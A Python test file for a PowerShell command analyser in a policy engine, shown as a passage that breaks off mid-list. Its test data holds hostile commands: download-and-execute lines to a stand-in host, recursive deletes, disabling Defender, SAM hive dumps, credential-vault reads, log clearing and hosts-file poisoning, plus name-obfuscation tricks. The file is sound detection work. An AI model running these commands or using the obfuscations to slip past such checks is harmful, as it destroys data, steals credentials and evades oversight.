"""The PowerShell analyser resolves what a command text invokes (issue 18; S-RULE-02, S-RULE-03, S-RULE-11)."""

from __future__ import annotations

import base64
from collections.abc import Mapping
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from tree_sitter import Node

from policy.rules.builtin import MAX_COMMAND_CHARS
from policy.rules.shell import ps_repair
from policy.rules.shell.ops import Analysis, Operation, Value
from policy.rules.shell.powershell import analyse_powershell, clear_analysis_cache
from policy.rules.shell.ps_fold import make_operation
from policy.rules.shell.ps_operators import integer
from policy.rules.shell.ps_repair import HAS_NUMBER_SUFFIX, may_have_number_suffix, repair
from policy.rules.shell.ps_tree import ERROR_ID, WRAPPER_IDS, kind_ids, parse_text, skip_wrappers, source_of
from tests._requirements import requirement


class RecordingNested:
    """A fake dispatcher: records every (program, argv, depth) it is handed."""

    def __init__(self) -> None:
        self.calls: list[tuple[str, tuple[Value, ...], int]] = []

    def __call__(
        self,
        program: str,
        argv: tuple[Value, ...],
        depth: int,
        env: Mapping[str, str | None] | None = None,
        expanded: bool = False,
    ) -> Analysis:
        self.calls.append((program, argv, depth))
        return Analysis()


def ops_named(analysis: Analysis, name: str) -> list[Operation]:
    return [op for op in analysis.operations if op.name == name]


def the_op(text: str, name: str) -> Operation:
    found = ops_named(analyse_powershell(text), name)
    assert found, f"no {name} in {analyse_powershell(text)}"
    return found[-1]


_ENCODED = base64.b64encode("Remove-Item C:\\x -Recurse".encode("utf-16-le")).decode()

# (command text, expected name, expected params that must be present, expected leading positional args)
RESOLVED = [
    ("$c='Remove-Item'; & $c -Recurse -Force C:\\x", "remove-item", {"recurse": "true", "force": "true"}, ("C:\\x",)),
    ("& ('Re'+'move-Item') C:\\x -Recurse", "remove-item", {"recurse": "true"}, ("C:\\x",)),
    ("&(\"{0}{1}\" -f 'Remove-','Item') C:\\x -Recurse", "remove-item", {"recurse": "true"}, ("C:\\x",)),
    ("& (-join('Remove','-Item')) C:\\x", "remove-item", {}, ("C:\\x",)),
    ("& ([char[]](82,101,109,111,118,101,45,73,116,101,109) -join '') C:\\x", "remove-item", {}, ("C:\\x",)),
    ("& ([string]::Join('', @('Remove','-Item'))) C:\\x", "remove-item", {}, ("C:\\x",)),
    ("& ([char]82 + 'emove-Item') C:\\x", "remove-item", {}, ("C:\\x",)),
    ("& ('REMOVE-ITEM'.ToLower()) C:\\x", "remove-item", {}, ("C:\\x",)),
    ("& ('Rxmove-Item'.Replace('x','e')) C:\\x", "remove-item", {}, ("C:\\x",)),
    ("Set-Alias zz Remove-Item; zz C:\\x -Recurse", "remove-item", {"recurse": "true"}, ("C:\\x",)),
    ("New-Alias -Name zz -Value ri; zz C:\\x", "remove-item", {}, ("C:\\x",)),
    (
        "$p=@{Recurse=$true;Force=$true;Path='C:\\x'}; Remove-Item @p",
        "remove-item",
        {"recurse": "true", "path": "C:\\x"},
        (),
    ),
    (
        "$p=@{DisableRealtimeMonitoring=$true}; Set-MpPreference @p",
        "set-mppreference",
        {"disablerealtimemonitoring": "true"},
        (),
    ),
    ("$a=@('C:\\x'); Remove-Item @a", "remove-item", {}, ("C:\\x",)),
    ("iex 'Remove-Item C:\\x -Recurse'", "remove-item", {"recurse": "true"}, ("C:\\x",)),
    ("'Remove-Item C:\\x' | Invoke-Expression", "remove-item", {}, ("C:\\x",)),
    ('$s=@"\nRemove-Item C:\\x -Recurse\n"@\niex $s', "remove-item", {"recurse": "true"}, ("C:\\x",)),
    ("$s=@'\nRemove-Item 'C:\\x'\n'@; iex $s", "remove-item", {}, ("C:\\x",)),
    ("Re`move-It`em C:\\x", "remove-item", {}, ("C:\\x",)),
    ("& ('Rxmove-Itxm' -replace 'X','e') C:\\x", "remove-item", {}, ("C:\\x",)),
    ("& ('Item-Remove' -replace '(\\w+)-(\\w+)','$2-$1') C:\\x", "remove-item", {}, ("C:\\x",)),
    (
        f"iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('{_ENCODED}')))",
        "remove-item",
        {"recurse": "true"},
        ("C:\\x",),
    ),
    ("Microsoft.PowerShell.Management\\Remove-Item C:\\x", "remove-item", {}, ("C:\\x",)),
    ("ri C:\\x -rec -fo", "remove-item", {"recurse": "true", "force": "true"}, ("C:\\x",)),
    ("Remove-Item -Path:C:\\x -Recurse:$false", "remove-item", {"path": "C:\\x", "recurse": "false"}, ()),
    ("$d='C:\\x'; Remove-Item \"$d\\sub\" -Recurse", "remove-item", {"recurse": "true"}, ("C:\\x\\sub",)),
    ('Remove-Item "$env:TEMP\\x"', "remove-item", {}, ("$env:TEMP\\x",)),
    ("Remove-Item ${env:TEMP}", "remove-item", {}, ("$env:TEMP",)),
    ("gci $env:USERPROFILE\\x -Recurse", "get-childitem", {"recurse": "true"}, ("$env:USERPROFILE\\x",)),
    ("[scriptblock]::Create('Remove-Item C:\\x').Invoke()", "remove-item", {}, ("C:\\x",)),
    ("$ExecutionContext.InvokeCommand.InvokeScript('del C:\\x')", "remove-item", {}, ("C:\\x",)),
    ("$sb = { Remove-Item $d }; $d = 'C:\\x'; & $sb", "remove-item", {}, ("C:\\x",)),
    ("if ($y) { Remove-Item C:\\a } else { del C:\\b }", "remove-item", {}, ("C:\\b",)),
    ("$h = @{ a = (Remove-Item C:\\x) }", "remove-item", {}, ("C:\\x",)),
    ('Write-Output "$(Remove-Item C:\\x)"', "remove-item", {}, ("C:\\x",)),
    (
        "Invoke-Command -ComputerName h -ScriptBlock { Remove-Item C:\\x -Recurse }",
        "remove-item",
        {"recurse": "true"},
        ("C:\\x",),
    ),
    ("function Wipe($p) { Remove-Item $p -Recurse }; Wipe C:\\x", "remove-item", {"recurse": "true"}, (None,)),
    ("‘Remove-Item’ | iex", "remove-item", {}, ()),
    (
        "& ([string]::new([char[]](82,101,109,111,118,101,45,73,116,101,109))) -Recurse 'C:\\Program Files'",
        "remove-item",
        {"recurse": "true"},
        ("C:\\Program Files",),
    ),
    ("& ([string]::new([char[]](83,116,111,112,45,67,111,109,112,117,116,101,114)))", "stop-computer", {}, ()),
    (
        "& ([string]::new([char[]](88,82,101,109,111,118,101,45,73,116,101,109), 1, 11)) C:\\x",
        "remove-item",
        {},
        ("C:\\x",),
    ),
    ("& ([string]::new('Remove-Item') + [string]::new('s', 0)) C:\\x", "remove-item", {}, ("C:\\x",)),
]


@requirement("S-RULE-02")
@pytest.mark.parametrize(("text", "name", "params", "args"), RESOLVED, ids=[row[0][:50] for row in RESOLVED])
def test_built_names_and_arguments_fold_to_the_operation_they_run(
    text: str, name: str, params: dict[str, str], args: tuple[Value, ...]
) -> None:
    """S-RULE-02: built names, aliases and splats resolve to the real cmdlet and its arguments."""
    op = the_op(text, name)
    for key, value in params.items():
        assert op.param(key) == value, (key, op)
    assert op.args[: len(args)] == args


DOTNET_AND_COM = [
    ("foreach($f in $files){[IO.File]::Delete($f)}", "dotnet", "system.io.file::delete", (None,)),
    ("[System.IO.Directory]::Delete('C:\\x', $true)", "dotnet", "system.io.directory::delete", ("C:\\x", "true")),
    (
        "$fso=New-Object -ComObject Scripting.FileSystemObject; $fso.DeleteFolder('C:\\x')",
        "com",
        "com:scripting.filesystemobject.deletefolder",
        ("C:\\x",),
    ),
    (
        "Add-Type -AssemblyName Microsoft.VisualBasic; "
        "[Microsoft.VisualBasic.FileIO.FileSystem]::DeleteDirectory('C:\\x','DeleteAllContents')",
        "dotnet",
        "microsoft.visualbasic.fileio.filesystem::deletedirectory",
        ("C:\\x", "DeleteAllContents"),
    ),
    (
        "(New-Object Net.WebClient).DownloadString('http://e/x')",
        "dotnet",
        "system.net.webclient.downloadstring",
        ("http://e/x",),
    ),
    (
        "iex (New-Object Net.WebClient).DownloadString('http://e/x')",
        "dotnet",
        "system.net.webclient.downloadstring",
        ("http://e/x",),
    ),
    (
        "[Environment]::SetEnvironmentVariable('P','x','Machine')",
        "dotnet",
        "system.environment::setenvironmentvariable",
        ("P", "x", "Machine"),
    ),
    ("$o = Get-Thing; $o.Delete()", "dotnet", "?.delete", ()),
    ("Get-ChildItem | ForEach-Object Delete", "dotnet", "?.delete", ()),
    ('$x.InvokeVerb("delete")', "dotnet", "?.invokeverb", ("delete",)),
    ("$s.ClearLog('Security')", "dotnet", "?.clearlog", ("Security",)),
    ("(Get-WmiObject Win32_OperatingSystem).Win32Shutdown(5)", "dotnet", "?.win32shutdown", ("5",)),
    ("$u.SetPassword('x')", "dotnet", "?.setpassword", ("x",)),
    (
        "[System.Diagnostics.Eventing.Reader.EventLogSession]::GlobalSession.ClearLog('Security')",
        "dotnet",
        "?.clearlog",
        ("Security",),
    ),
    (
        "[Windows.Security.Credentials.PasswordVault,Windows.Security.Credentials,ContentType=WindowsRuntime]::new()"
        ".RetrieveAll()",
        "dotnet",
        "windows.security.credentials.passwordvault::new",
        (),
    ),
    (
        "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('RwBlAHQALQBEAGEAdABlAA==')))",
        "dotnet",
        "system.convert::frombase64string",
        ("RwBlAHQALQBEAGEAdABlAA==",),
    ),
    (
        "& ([scriptblock]::Create((irm https://e/x)))",
        "dotnet",
        "system.management.automation.scriptblock::create",
        (None,),
    ),
]


@requirement("S-RULE-03")
def test_every_method_the_effect_layer_reads_on_any_object_is_reported_untyped() -> None:
    """S-RULE-03: each method `effects_dispatch.METHODS` knows is an `?.<method>` operation on an unknown object;
    each `set_<member>` it knows (S-RULE-134) is one when the member is set."""
    from policy.rules.effects_dispatch import METHODS
    from policy.rules.shell.ps_names import DANGEROUS_METHODS

    members = {name for name in METHODS if name.startswith("set_")}
    assert members, "the property sets of S-RULE-134 are read by the effect layer"
    assert set(METHODS) - members <= DANGEROUS_METHODS
    for method in sorted(set(METHODS) - members):
        assert ops_named(analyse_powershell(f"$o.{method}('a')"), f"?.{method}"), method
    for name in sorted(members):
        assert ops_named(analyse_powershell(f"$o.{name[4:]} = 'a'"), f"?.{name}"), name


@requirement("S-RULE-03")
@pytest.mark.parametrize(
    ("text", "shell", "name", "args"), DOTNET_AND_COM, ids=[row[2] + ":" + row[0][:30] for row in DOTNET_AND_COM]
)
def test_dotnet_and_com_calls_become_operations(text: str, shell: str, name: str, args: tuple[Value, ...]) -> None:
    """S-RULE-03: .NET static calls, COM methods and dangerous unknown methods are reported by name."""
    op = the_op(text, name)
    assert op.shell == shell
    assert op.args == args


NESTED = [
    ("Start-Process cmd -ArgumentList @('/c','rd','/s','/q','C:\\x')", ("cmd", ("/c", "rd", "/s", "/q", "C:\\x"), 1)),
    (
        "Start-Process -FilePath powershell.exe -ArgumentList '-enc AAAA'",
        ("powershell", ("-enc", "AAAA"), 1),
    ),  # one command line, split (S-RULE-95)
    ("Start-Process cmd '/c','del','x'", ("cmd", ("/c", "del", "x"), 1)),
    # cmd gets the one line PowerShell builds: an argument with a blank is quoted again (S-RULE-81).
    ('cmd /c "rd /s /q C:\\x"', ("cmd", ('/c "rd /s /q C:\\x"',), 1)),
    ("net user x /add", ("net", ("user", "x", "/add"), 1)),
    ("C:\\Windows\\System32\\reg.exe save HKLM\\SAM s", ("reg", ("save", "HKLM\\SAM", "s"), 1)),
    ("& 'C:\\tools\\x.exe' a b", ("x", ("a", "b"), 1)),
    ("(New-Object -ComObject WScript.Shell).Run('cmd /c rd /s /q C:\\x')", ("cmd", ("/c rd /s /q C:\\x",), 1)),
    ("[Diagnostics.Process]::Start('cmd.exe', '/c del x')", ("cmd", ("/c del x",), 1)),
    ("iex 'net user x /add'", ("net", ("user", "x", "/add"), 2)),
]


@requirement("S-RULE-03")
@pytest.mark.parametrize(("text", "call"), NESTED, ids=[row[0][:50] for row in NESTED])
def test_native_programs_are_handed_to_the_dispatcher(text: str, call: tuple[str, tuple[Value, ...], int]) -> None:
    """S-RULE-03: a native program (by name, path, Start-Process, COM Run, Process.Start) reaches `nested`."""
    nested = RecordingNested()
    analyse_powershell(text, nested=nested)
    assert call in nested.calls


@requirement("S-RULE-03")
def test_a_program_is_an_operation_of_its_own() -> None:
    """S-RULE-03: `net user x /add` is a program operation with its argv, at the depth given."""
    analysis = analyse_powershell("net user x /add", depth=2)
    assert analysis.operations == (
        Operation(shell="program", name="net", args=("user", "x", "/add"), text="net user x /add", depth=2),
    )


DYNAMIC = [
    "iex $y",
    "& $x",
    "& (Get-Command R?move-I?em) C:\\x",
    "& (gcm *-Item) C:\\x",
    "$x = 'Get-Item'; if ($q) { $x = 'Remove-Item' }; & $x C:\\y",
    "foreach ($i in 1,2) { & $c x; $c = 'Remove-Item' }",
    "[scriptblock]::Create($t)",
    "$ExecutionContext.InvokeCommand.InvokeScript($t)",
    "Remove-Item @p",
    "Set-Alias ($n) Remove-Item",
    "Start-Process $exe",
    "Invoke-Command -ScriptBlock ([scriptblock]::Create($env:PAYLOAD))",
    "[scriptblock]$env:PAYLOAD",
    "iex $env:PAYLOAD",
    'iex "Write-Output $env:PAYLOAD"',
    "$env:PAYLOAD | iex",
    "& ([scriptblock]::Create((irm https://e/x)))",
]


@requirement("S-RULE-02")
@pytest.mark.parametrize("text", DYNAMIC)
def test_non_constant_names_are_dynamic(text: str) -> None:
    """S-RULE-02: a name or decisive argument that stays non-constant is reported as dynamic, never guessed."""
    assert analyse_powershell(text).dynamic


NOT_INVOKED = [
    'Write-Output "would run: Remove-Item -Recurse C:\\"',
    "\"rm -rf\" -match 'rm'",
    "Select-String 'Remove-Item' file.txt",
    "$cmd = 'Remove-Item -Recurse C:\\x'; Write-Host \"would run: $cmd\"",
    "'Remove-Item C:\\x' -replace 'x','y'",
    "# Remove-Item C:\\x",
    "bcdedit /set {Remove-Item C:\\x} safeboot minimal",
]


@requirement("S-RULE-02")
def test_code_spelled_with_an_environment_variable_is_not_dynamic() -> None:
    """S-RULE-02: `iex 'Write-Host $env:X'` runs constant code (the variable is read when it runs): not dynamic."""
    analysis = analyse_powershell("iex 'Write-Host $env:X'; Get-Item $env:TEMP")
    assert analysis.dynamic == ()
    assert ops_named(analysis, "write-host")[0].args == ("$env:X",)


@requirement("S-RULE-02")
@pytest.mark.parametrize(
    ("text", "names"),
    [
        ("bcdedit /set {current} safeboot minimal", ["bcdedit"]),
        ("msiexec /x {1F2534DC-9E6D-4E81-A97E-DEEABFC23FA4} /qn", ["msiexec"]),
        ("powershell -Command { Remove-Item C:\\x -Recurse }", ["remove-item", "powershell"]),
        ("Invoke-Command { Remove-Item C:\\x }", ["remove-item", "invoke-command"]),
    ],
)
def test_a_braced_argument_of_a_program_runs_only_in_a_powershell_host(text: str, names: list[str]) -> None:
    """S-RULE-02: `{current}` given to bcdedit is no command (PowerShell hands a program the block as text)."""
    analysis = analyse_powershell(text)
    assert [op.name for op in analysis.operations] == names
    assert analysis.failed is None


@requirement("S-RULE-02")
@pytest.mark.parametrize("text", NOT_INVOKED)
def test_strings_that_are_only_printed_or_compared_run_nothing(text: str) -> None:
    """S-RULE-02: a dangerous-looking string that is printed, compared or searched is not an invocation."""
    analysis = analyse_powershell(text)
    assert ops_named(analysis, "remove-item") == []
    assert analysis.dynamic == ()


@requirement("S-RULE-02")
def test_a_pipeline_names_the_command_before() -> None:
    """S-RULE-02: every command after the first in a pipeline records the command feeding it."""
    analysis = analyse_powershell("Get-Process | Stop-Process")
    stop = ops_named(analysis, "stop-process")
    assert [op.input_from for op in stop] == ["get-process"]
    assert ops_named(analysis, "get-process")[0].input_from is None


@requirement("S-RULE-02")
@pytest.mark.parametrize(
    ("text", "target"),
    [
        ("echo hi > C:\\Windows\\System32\\drivers\\etc\\hosts", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
        ("Get-Date >> 'C:\\log.txt'", "C:\\log.txt"),
        ("Get-Date 2> err.txt", "err.txt"),
        (
            '"1.2.3.4 bank.example" >> C:\\Windows\\System32\\drivers\\etc\\hosts',
            "C:\\Windows\\System32\\drivers\\etc\\hosts",
        ),
        ("$(Get-Date) > C:\\a.txt", "C:\\a.txt"),
    ],
)
def test_redirections_are_operations(text: str, target: str) -> None:
    """S-RULE-02: `>`, `>>` and `2>` write their target, so each is a `<redirect>` operation."""
    assert the_op(text, "<redirect>").args == (target,)


@requirement("S-RULE-02")
def test_redirect_to_null_writes_nothing() -> None:
    """S-RULE-02: `> $null` discards output: no redirect operation."""
    assert ops_named(analyse_powershell("Get-Date > $null"), "<redirect>") == []


@requirement("S-RULE-11")
@pytest.mark.parametrize("text", ["Write-Output 'abc", "Remove-Item C:\\x -Recurse; if (", 'Remove-Item "C:\\x'])
def test_syntax_errors_set_failed_without_raising(text: str) -> None:
    """S-RULE-11: a text the grammar rejects sets `failed` (the caller falls back to text rules)."""
    assert analyse_powershell(text).failed


@requirement("S-RULE-11")
def test_operations_before_a_syntax_error_are_still_returned() -> None:
    """S-RULE-11: a syntax error later in the text keeps the operations resolved before it."""
    analysis = analyse_powershell("Remove-Item C:\\x -Recurse; if (")
    assert analysis.failed
    assert ops_named(analysis, "remove-item")[0].args == ("C:\\x",)


@requirement("S-RULE-11")
@pytest.mark.parametrize(
    ("text", "depth", "reason"),
    [
        ("x" * (MAX_COMMAND_CHARS + 1), 0, "too large"),
        ("Get-Date", 9, "too deeply nested"),
        ("$s = 'iex $s'; iex $s", 0, "too deeply nested"),
        ("".join(f"Get-Date {i};" for i in range(600)), 0, "too many commands"),
        ("(" * 3000 + "1" + ")" * 3000, 0, "too deeply nested"),
    ],
    ids=["large", "depth", "iex-depth", "many", "parens"],
)
def test_bounds_set_failed(text: str, depth: int, reason: str) -> None:
    """S-RULE-11: too large, too deeply nested and too many commands each end in `failed`, never an exception."""
    analysis = analyse_powershell(text, depth=depth)
    assert analysis.failed == reason
    assert len(analysis.operations) <= 512


@requirement("S-RULE-11")
@settings(max_examples=300, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.one_of(
        st.text(max_size=400),
        st.text(alphabet="$&|;(){}[]@'\"`-+,.:=<>#\n iexRmvoIt0123\\/%\ud800\udfff\x00", max_size=400),
        st.integers(min_value=1, max_value=2000).map(lambda n: "(" * n + "$(" * n + "{" * n),
        st.lists(
            st.sampled_from(["iex ", "'", "''", "& ", "$(", "@{a=", "Remove-Item ", "`", '"', "[char]", "-join"]),
            max_size=60,
        ).map("".join),
    )
)
def test_the_analyser_never_raises(text: str) -> None:
    """S-RULE-11: any string (random text, deep nesting, surrogates, NUL) yields an Analysis and never raises."""
    analysis = analyse_powershell(text, nested=RecordingNested())
    assert isinstance(analysis, Analysis)
    assert len(analysis.operations) <= 512
    assert analysis.failed is None or "analyser error" not in analysis.failed


# Valid PowerShell the grammar rejects, repaired (ps_repair) with every value read from the original:
# (command text, expected operation name, expected params, expected positional args; an array given as one
# positional argument stays one, its items joined with `,` as PowerShell binds it to one parameter).
REPAIRED = [
    ("Get-Process lsass | Select-Object Id, StartTime", "select-object", {}, ("Id,StartTime",)),
    ("Get-Process lsass | Select-Object Id,StartTime", "select-object", {}, ("Id,StartTime",)),
    ("Get-Process lsass | Select-Object Id , StartTime", "select-object", {}, ("Id,StartTime",)),
    ("Get-Disk | Select-Object Number, FriendlyName, Size", "select-object", {}, ("Number,FriendlyName,Size",)),
    ("Get-ComputerInfo -Property OsName, OsVersion", "get-computerinfo", {"property": "OsVersion"}, ()),
    ("Get-NetFirewallProfile | Format-Table Name, Enabled", "format-table", {}, ("Name,Enabled",)),
    ("Copy-Item $env:TEMP\\a.txt C:\\Users\\me\\b.txt", "copy-item", {}, ("$env:TEMP\\a.txt", "C:\\Users\\me\\b.txt")),
    ("Copy-Item ${env:TEMP}\\a.txt C:\\b", "copy-item", {}, ("$env:TEMP\\a.txt", "C:\\b")),
    # A braced variable inside a bareword expands as in double quotes (found by helper-30's mutation pass).
    (
        "$n = 'System32'; Remove-Item C:\\Windows\\${n} -Recurse",
        "remove-item",
        {"recurse": "true"},
        ("C:\\Windows\\System32",),
    ),
    ("$a = 'Sys'; Get-Item C:\\Windows\\${a}tem32\\drivers", "get-item", {}, ("C:\\Windows\\System32\\drivers",)),
    ("Get-ChildItem | Where-Object Length -gt 1MB", "where-object", {"gt": "1MB"}, ("Length",)),
    ("if ($f.Length -gt 10KB) { Remove-Item C:\\x }", "remove-item", {}, ("C:\\x",)),
    ("$n = 1GB / 2; Get-Item C:\\x", "get-item", {}, ("C:\\x",)),
    ("$x = 0x1F; Get-Item $x", "get-item", {}, ("31",)),
    ("switch ($x) { 1 {'a'} default { Remove-Item C:\\x } }", "remove-item", {}, ("C:\\x",)),
    ("switch -regex ($x) { 'a' { Get-Item C:\\a } 'b' { Get-Item C:\\b } }", "get-item", {}, ("C:\\b",)),
    ("Select-Object Név, Größe; Remove-Item C:\\ä", "remove-item", {}, ("C:\\ä",)),
    ("Select-Object Név, Größe", "select-object", {}, ("Név,Größe",)),
    ("Write-Output 'a, b' x,y", "write-output", {}, ("a, b", "x,y")),
    (
        "Set-SmbServerConfiguration -EnableSMB1Protocol $true -Force",
        "set-smbserverconfiguration",
        {"enablesmb1protocol": "true", "force": "true"},
        (),
    ),
    ("Set-NetIPv4Protocol -IGMPVersion Version2; Get-Item x, y", "get-item", {}, ("x,y",)),
    ("wsl -d Ubuntu -- rm -rf /mnt/d/x", "wsl", {}, ("-d", "Ubuntu", "--", "rm", "-rf", "/mnt/d/x")),
    ("Write-Output -- -InputObject; Get-Item a, b", "write-output", {}, ("-InputObject",)),
    (
        "[Windows.Security.Credentials.PasswordVault, Windows.Security.Credentials, ContentType=WindowsRuntime]::new()"
        ".RetrieveAll()",
        "windows.security.credentials.passwordvault.retrieveall",  # `::new()` makes an object of its type
        {},
        (),
    ),
]


@requirement("S-RULE-11")
@pytest.mark.parametrize(("text", "name", "params", "args"), REPAIRED, ids=[row[0][:50] for row in REPAIRED])
def test_valid_powershell_the_grammar_rejects_analyses_without_failing(
    text: str, name: str, params: dict[str, str], args: tuple[Value, ...]
) -> None:
    """S-RULE-11: bareword arrays, `$env:X\\y` arguments, `1MB` and `switch … default` are not syntax errors."""
    analysis = analyse_powershell(text)
    assert analysis.failed is None
    op = ops_named(analysis, name)[-1]
    for key, value in params.items():
        assert op.param(key) == value, (key, op)
    assert op.args == args


@requirement("S-RULE-11")
def test_a_repaired_command_keeps_its_text_as_written() -> None:
    """S-RULE-11: an operation's text is the original, not the repaired text the grammar read."""
    (select,) = ops_named(analyse_powershell("Get-Disk | Select-Object Number, Size"), "select-object")
    assert select.text == "Select-Object Number, Size"
    assert select.input_from == "get-disk"


@requirement("S-RULE-11")
@pytest.mark.parametrize(
    ("text", "argv"),
    [
        ("cmd /c echo %COMSPEC:~0,19%", ("/c echo %COMSPEC:~0,19%",)),  # cmd: the line, S-RULE-81
        ("cmd /c rd /s /q %COMSPEC:~0,19%", ("/c rd /s /q %COMSPEC:~0,19%",)),
        ("net localgroup a,b /add", ("localgroup", "a,b", "/add")),
        ("x.exe a, b", ("a,", "b")),
    ],
)
def test_a_native_program_gets_a_bareword_array_as_written(text: str, argv: tuple[Value, ...]) -> None:
    """S-RULE-11: `a,b` reaches a program as PowerShell passes it, the elements joined by the separators written."""
    nested = RecordingNested()
    analysis = analyse_powershell(text, nested=nested)
    assert analysis.failed is None
    assert nested.calls[0][1] == argv


@requirement("S-RULE-11")
def test_a_suffixed_number_in_an_expression_is_not_a_program() -> None:
    """S-RULE-11: `$a = 1MB` assigns a number; the grammar alone would read a program named `1MB`."""
    assert analyse_powershell("$a = 1MB").operations == ()


@requirement("S-RULE-11")
@pytest.mark.parametrize(
    "text",
    [
        "Get-Item {",
        "Get-Item a,,b",
        "switch ($x) { 1 {'a'} default {'b'}",
        "Select-Object Id, 'Name",
        "Get-Process | Select-Object Id, Name)",
        "Remove-Item $env:TEMP\\x -Recurse; }",
    ],
)
def test_real_syntax_errors_still_fail_after_repair(text: str) -> None:
    """S-RULE-11: a text the repair cannot make parse (unbalanced, unterminated, garbage) still sets `failed`."""
    assert analyse_powershell(text).failed


@requirement("S-RULE-11")
@pytest.mark.parametrize(
    ("text", "untouched"),
    [
        ("Write-Output 'a,b' \"c,d\" # e,f", "'a,b' \"c,d\" # e,f"),
        ("$s = @'\nx,y 1MB\n'@", "x,y 1MB"),
        ("Get-Item ${a,b}", "${a,b}"),
    ],
)
def test_the_repair_leaves_strings_comments_and_braced_variables_alone(text: str, untouched: str) -> None:
    """S-RULE-11: commas and numbers inside quotes, here-strings, comments and `${…}` are never rewritten."""
    repaired = repair(text)
    assert repaired is None or untouched in repaired.text


@requirement("S-RULE-11")
def test_analyses_are_cached_by_text_and_the_cache_can_be_cleared() -> None:
    """S-RULE-11: the same text is analysed once (an Analysis is immutable); clearing forces a fresh one."""
    text = "Remove-Item C:\\cache-probe -Recurse"
    first = analyse_powershell(text)
    assert analyse_powershell(text) is first
    assert analyse_powershell(text, depth=1) is not first
    clear_analysis_cache()
    again = analyse_powershell(text)
    assert again is not first
    assert again == first


# Texts whose trees hold every kind the walker tests by id, a repaired one and a non-ASCII one among them.
_KIND_SAMPLES = [
    "Remove-Item -Path:C:\\x -Recurse > out.txt; & $c @p | Where-Object { $_.Length -gt 1MB }",
    'foreach ($f in Get-ChildItem) { $x = [IO.File]::Delete("$env:TEMP\\$f") }; cmd /c --% dir',
    "Select-Object Név, Größe; iex $wc.DownloadString('u'); Get-Item (",
    "$h = @{a=1; b='x'}; .\\run.ps1 -x 0x10; ${env:P}; function f { param($a) }; 'a' -f 1",
]


@requirement("S-RULE-11")
@pytest.mark.parametrize("text", _KIND_SAMPLES)
def test_kinds_compared_by_id_agree_with_the_node_type_names(text: str) -> None:
    """S-RULE-11: `kind_ids(name)` holds a node's kind id exactly when `node.type` is that name (ERROR included)."""
    parsed = parse_text(text)
    nodes = [parsed.tree.root_node]
    names = {"command", "command_elements", "command_argument_sep", "generic_token", "variable", "ERROR"}
    seen: set[str] = set()
    while nodes:
        node = nodes.pop()
        nodes.extend(node.children)
        seen.add(node.type)
        for name in names | {node.type}:
            assert (node.kind_id in kind_ids(name)) == (node.type == name), (name, node.type, node.kind_id)
    assert "command" in seen
    assert ERROR_ID in kind_ids("ERROR")


@requirement("S-RULE-11")
@pytest.mark.parametrize("text", _KIND_SAMPLES + ["Get-Disk | Select-Object Number, Size", "gci ä,b; $a = 2KB"])
def test_the_node_text_reader_reads_what_the_source_reads(text: str) -> None:
    """S-RULE-11: the walker's specialised text reader gives every node the same original text as `Source.text`."""
    parsed = parse_text(text)
    read = parsed.source.reader()
    nodes = [parsed.tree.root_node]
    while nodes:
        node = nodes.pop()
        nodes.extend(node.children)
        assert read(node) == parsed.source.text(node)
    assert source_of("ä").reader is not None


@requirement("S-RULE-11")
@pytest.mark.parametrize(
    ("written", "value"),
    [("10", 10), ("0123", 123), ("0x10", 16), ("1KB", 1024), ("10l", 10), ("1e", None), ("", None)],
)
def test_integer_literals_fold_to_their_value(written: str, value: int | None) -> None:
    """S-RULE-11: decimal, hexadecimal and suffixed literals fold to their value; anything else is unknown."""
    folded = integer(written)
    assert (folded if isinstance(folded, int) else None) == value


@requirement("S-RULE-11")
def test_a_repeated_operation_is_kept_once_and_the_bound_counts_distinct_ones() -> None:
    """S-RULE-11: the same invocation twice is one operation; 600 distinct ones stop at the bound with `failed`."""
    once = analyse_powershell("Get-Date; Get-Date; Get-Date")
    assert len(once.operations) == 1
    assert once.failed is None
    many = analyse_powershell("".join(f"gi {i};gi 0;" for i in range(520)))
    assert len(many.operations) == 512
    assert len(set(many.operations)) == 512
    assert many.failed == "too many commands"


# Texts whose trees hold long wrapper chains ending in every kind `skip_wrappers` must not jump past
# (strings, numbers, `${…}`, a bare command, a type name), a `& $x` name, and a broken tree.
_CHAIN_SAMPLES = [
    *_KIND_SAMPLES,
    "$a = 'x'; $b = \"y$a\"; $c = 0x1F; $d = 5; $e = ${f}; $g = @'\nh\n'@; Stop-Transcript",
    "if ([IO.File]) { & $x; . ${y}; & $z.Invoke } elseif ((1)) { -not $q } else { $r++ }",
    "$x = (Get-Date",
    "foreach ($i in 1..3) { [int]$i + 2 * $i }",
]


def _unwrap_by_children(node: Node) -> Node:
    while node.kind_id in WRAPPER_IDS and len(node.children) == 1:
        node = node.children[0]
    return node


@requirement("S-RULE-13")
@pytest.mark.parametrize("text", _CHAIN_SAMPLES)
def test_skipping_a_wrapper_chain_in_one_step_lands_where_child_by_child_does(text: str) -> None:
    """S-RULE-13: `skip_wrappers` (long chains crossed in one call) ends each chain where the slow walk does."""
    nodes = [parse_text(text).tree.root_node]
    wrappers = 0
    while nodes:
        node = nodes.pop()
        nodes.extend(node.children)
        if node.kind_id in WRAPPER_IDS:
            wrappers += 1
            assert skip_wrappers(node).id == _unwrap_by_children(node).id, (text, node.type)
    assert wrappers


@requirement("S-RULE-13")
@pytest.mark.parametrize(
    "fields",
    [
        ("powershell", "remove-item", (("recurse", "true"),), ("C:\\x",), "rm C:\\x -r", 0, None),
        ("program", "cmd", (), ("/c", None), "cmd /c $x", 2, "get-childitem"),
    ],
)
def test_an_operation_made_by_slots_equals_the_dataclass_one(fields: tuple[Any, ...]) -> None:
    """S-RULE-13: `make_operation` gives the value `Operation(…)` gives: equal, same hash, same repr."""
    fast, slow = make_operation(*fields), Operation(*fields)
    assert fast == slow
    assert hash(fast) == hash(slow)
    assert repr(fast) == repr(slow)


# The repair's pass keeps only the branches a text can need; these texts need each of them, or look
# as if they did (`Switch`, `0xFkb`, an unmatched `)` before a `{`, which the full pass counts as a switch body).
_REPAIR_SAMPLES = [
    "switch ($x) { 1 {'a'} default {'b'} }",
    "SWITCH(1){1 {2} 3 {4}}",
    "$a = 0xFkb; gci -gt 1MB",
    ") x { 1 {2} 3 }",
    "Select-Object Id, Name; Copy-Item $env:TEMP\\a x",
    "Set-SmbServerConfiguration -EnableSMB1Protocol $true -Force; wsl -d x -- rm -rf /",
